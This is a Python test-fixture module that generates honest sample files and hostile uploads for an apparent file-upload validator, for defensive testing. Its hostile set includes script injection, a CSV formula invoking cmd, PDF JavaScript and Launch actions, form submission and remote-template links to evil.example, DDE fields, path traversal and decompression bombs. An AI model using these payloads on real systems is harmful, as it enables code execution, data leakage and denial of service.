"""Files made in code: honest ones, and what attackers send."""

# ruff: noqa: E501

import io
import struct
import zipfile
import zlib

from PIL import Image

from pathya.integrations.antivirus import EICAR

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>{}</Types>'
)
RELATIONS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def picture(kind: str = "JPEG", size: tuple[int, int] = (640, 480), **options: object) -> bytes:
    made = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(made, kind, **options)
    return made.getvalue()


def jpeg_with_place() -> bytes:
    """A photo that tells where and with what it was taken."""
    exif = Image.Exif()
    exif[0x010F], exif[0x9286] = "Secret Camera", "Secret comment"
    exif.get_ifd(0x8825)[1] = "N"
    return picture(exif=exif, comment=b"Secret words")


def pdf(pages: int = 1) -> bytes:
    made = io.BytesIO()
    page = Image.linear_gradient("L").resize((300, 400)).convert("RGB")
    page.save(made, "PDF", save_all=True, append_images=[page] * (pages - 1))
    return made.getvalue()


def written_pdf(*objects: str, catalog: str = "", streams: tuple[tuple[str, bytes], ...] = ()) -> bytes:
    """A PDF of one empty page with more objects, entries of the catalogue and streams."""
    parts = [f"<</Type/Catalog/Pages 2 0 R{catalog}>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>"]
    parts += ["<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>", *objects]
    body, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(body))
        body += f"{number} 0 obj\n{part}\nendobj\n".encode()
    for number, (about, content) in enumerate(streams, len(parts) + 1):
        places.append(len(body))
        head = f"{number} 0 obj\n<</Length {len(content)}{about}>>\nstream\n".encode()
        body += head + content + b"\nendstream\nendobj\n"
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    size = len(places) + 1
    end = f"xref\n0 {size}\n0000000000 65535 f \n{table}trailer<</Size {size}/Root 1 0 R>>\nstartxref\n{len(body)}\n%%EOF\n"
    return body + end.encode()


def packed_javascript() -> bytes:
    """The script stands in a compressed stream of objects."""
    content = zlib.compress(b"9 0 <</S/JavaScript/JS(app.alert(1))>>")
    return written_pdf(streams=(("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", content),))


def docx(parts: dict[str, str | bytes] | None = None, *, types: str = "", text: str = "Namaste") -> bytes:
    made = io.BytesIO()
    document = f'<?xml version="1.0"?><w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>'
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {
            "[Content_Types].xml": CONTENT_TYPES.format(types),
            "_rels/.rels": RELATIONS.format(""),
            "word/document.xml": document,
            **(parts or {}),
        }.items():
            archive.writestr(name, content)
    return made.getvalue()


def relation(kind: str, target: str) -> str:
    return RELATIONS.format(f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>')


def archive(**parts: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as opened:
        for name, content in parts.items():
            opened.writestr(name, content)
    return made.getvalue()


def pixel_bomb(side: int = 30_000) -> bytes:
    """A PNG of a few hundred bytes that says it is huge."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(99))) + chunk(b"IEND", b"")


def doc(*storages: str, flags: int = 0, text: bytes = b"", stream: str = "WordDocument") -> bytes:
    """An OLE container with a stream of a Word document and empty storages beside it."""
    content = (struct.pack("<HHHHHH", 0xA5EC, 0xC1, 0, 0, 0, flags) + bytes(20) + text).ljust(4096, b"\0")
    entries = [_entry("Root Entry", 5, child=1), _entry(stream, 2, right=2 if storages else -1, start=2, size=4096)]
    for number, name in enumerate(storages, 2):
        entries.append(_entry(name, 1, right=number + 1 if number - 1 < len(storages) else -1))
    directory = b"".join(entries).ljust(512, b"\0")
    assert len(directory) == 512
    fat = [0xFFFFFFFD, 0xFFFFFFFE, *range(3, 10), 0xFFFFFFFE]
    fat += [0xFFFFFFFF] * (128 - len(fat))
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    head += struct.pack("<I", 0) + b"\xff" * (4 * 108)
    return head + struct.pack("<128I", *fat) + directory + content


def _entry(name: str, kind: int, *, right: int = -1, child: int = -1, start: int = 0, size: int = 0) -> bytes:
    raw = name.encode("utf-16-le") + b"\0\0"
    head = raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), kind, 1)
    links = struct.pack("<iii", -1, right, child)
    start = start if kind == 2 else 0xFFFFFFFE
    return head + links + bytes(36) + struct.pack("<IQ", start, size)


def hostile() -> dict[str, tuple[bytes, str]]:
    """Name → content and why it is refused."""
    good_pdf, good_docx, good_doc = pdf(), docx(), doc()
    big = b"<a>" + b"0" * 8_000_000 + b"</a>"
    return {
        "empty.pdf": (b"", "empty"),
        "eicar.com": (EICAR, "unknown_type"),
        "eicar.zip": (archive(eicar=EICAR), "unknown_type"),
        "page.pdf": (b"<html><script>alert(1)</script></html>", "unknown_type"),
        "drawing.svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "unknown_type"),
        "drawing.png": (b'<?xml version="1.0"?><svg><script>alert(1)</script></svg>', "unknown_type"),
        "tool.exe": (b"MZ" + bytes(200), "unknown_type"),
        "tool.pdf": (b"\x7fELF" + bytes(200), "unknown_type"),
        "script.sh": (b"#!/bin/sh\nid\n", "unknown_type"),
        "anim.gif": (picture("GIF"), "unknown_type"),
        "photo.webp": (picture("WEBP"), "unknown_type"),
        "list.csv": (b"=cmd|' /C calc'!A0,1\n", "unknown_type"),
        "nul.pdf": (bytes(512), "unknown_type"),
        "late.pdf": (b"GARBAGE\n" + good_pdf, "unknown_type"),
        "cut.pdf": (good_pdf[: len(good_pdf) // 2], "damaged"),
        "head.pdf": (b"%PDF-1.7\n", "damaged"),
        "pdf-zip.pdf": (good_pdf + archive(a=b"x"), "two_in_one"),
        "pdf-tail.pdf": (good_pdf + b"\0" * 5000, "two_in_one"),
        "pdf-html.pdf": (good_pdf.replace(b"\n", b"\n%<script>alert(1)</script>\n", 1), "two_in_one"),
        "javascript.pdf": (written_pdf(catalog="/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "active_content"),
        "spelt.pdf": (written_pdf("<</S/#4aav#61Script/JS(app.alert(1))>>"), "active_content"),
        "packed.pdf": (packed_javascript(), "active_content"),
        "launch.pdf": (written_pdf(catalog="/OpenAction<</S/Launch/F(calc.exe)>>"), "active_content"),
        "form.pdf": (written_pdf("<</S/SubmitForm/F(http://evil.example)>>"), "active_content"),
        "xfa.pdf": (written_pdf(catalog="/AcroForm<</XFA 4 0 R>>"), "active_content"),
        "attached.pdf": (written_pdf(catalog="/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>"), "embedded"),
        "strange.pdf": (
            written_pdf(streams=(("/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode", b"39>"),)),
            "too_complex",
        ),
        "bomb.pdf": (
            written_pdf(streams=(("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zlib.compress(bytes(50_000_000))),)),
            "too_complex",
        ),
        "locked.pdf": (good_pdf.replace(b"trailer\n<<", b"trailer\n<</Encrypt 9 0 R"), "locked"),
        "pixels.png": (pixel_bomb(), "too_many_pixels"),
        "cut.png": (picture("PNG")[:-20], "damaged"),
        "cut.jpg": (picture()[:2000], "damaged"),
        "head.jpg": (b"\xff\xd8\xff\xe0" + bytes(50), "damaged"),
        "jpeg-zip.jpg": (picture() + archive(a=b"x"), "two_in_one"),
        "png-jar.png": (picture("PNG") + archive(a=b"x"), "two_in_one"),
        "plain.docx": (archive(readme=b"hello"), "unknown_type"),
        "macro.docx": (docx({"word/vbaProject.bin": b"\xd0\xcf"}), "active_content"),
        "macro-type.docx": (
            docx(
                types='<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
            ),
            "active_content",
        ),
        "template.docx": (
            docx({"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://evil.example/t.dotm")}),
            "reaches_out",
        ),
        "ole-link.docx": (
            docx({"word/_rels/document.xml.rels": relation("oleObject", "http://evil.example/x.html")}),
            "reaches_out",
        ),
        "file-link.docx": (
            docx({"word/_rels/document.xml.rels": relation("hyperlink", "file://evil/share")}),
            "reaches_out",
        ),
        "dde.docx": (
            docx(
                {
                    "word/footer1.xml": f'<w:p xmlns:w="{WORD}"><w:instrText>DDEAU</w:instrText><w:instrText>TO calc</w:instrText></w:p>'
                }
            ),
            "reaches_out",
        ),
        "entities.docx": (docx({"word/a.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "active_content"),
        "embedded.docx": (docx({"word/embeddings/oleObject1.bin": b"x"}), "embedded"),
        "program.docx": (docx({"word/media/a.png": b"MZ" + bytes(90)}), "embedded"),
        "zip-bomb.docx": (docx({"word/big.xml": big}), "too_complex"),
        "escape.docx": (docx({"../../etc/passwd.xml": "<a/>"}), "damaged"),
        "xml.docx": (docx({"word/a.xml": "<a><b></a>"}), "damaged"),
        "cut.docx": (good_docx[:-30], "damaged"),
        "before.docx": (b"PK\x03\x04" + bytes(100) + good_docx, "two_in_one"),
        "after.docx": (good_docx + b"%PDF-1.7", "two_in_one"),
        "macro.doc": (doc("Macros"), "active_content"),
        "vba.doc": (doc("_VBA_PROJECT_CUR"), "active_content"),
        "packed.doc": (doc("ObjectPool"), "embedded"),
        "table.doc": (doc(stream="Workbook"), "unknown_type"),
        "locked.doc": (doc(flags=0x0100), "locked"),
        "dde.doc": (doc(text=b"\x13 DDEAUTO c:\\\\windows\\\\calc.exe"), "active_content"),
        "cut.doc": (good_doc[:700], "damaged"),
        "doc-zip.doc": (good_doc + archive(a=b"x"), "two_in_one"),
    }


HONEST = {
    "report.pdf": pdf,
    "photo.jpg": jpeg_with_place,
    "scan.png": lambda: picture("PNG"),
    "chart.docx": lambda: docx({"word/_rels/document.xml.rels": relation("hyperlink", "https://pathya.example/")}),
    "old.doc": doc,
}
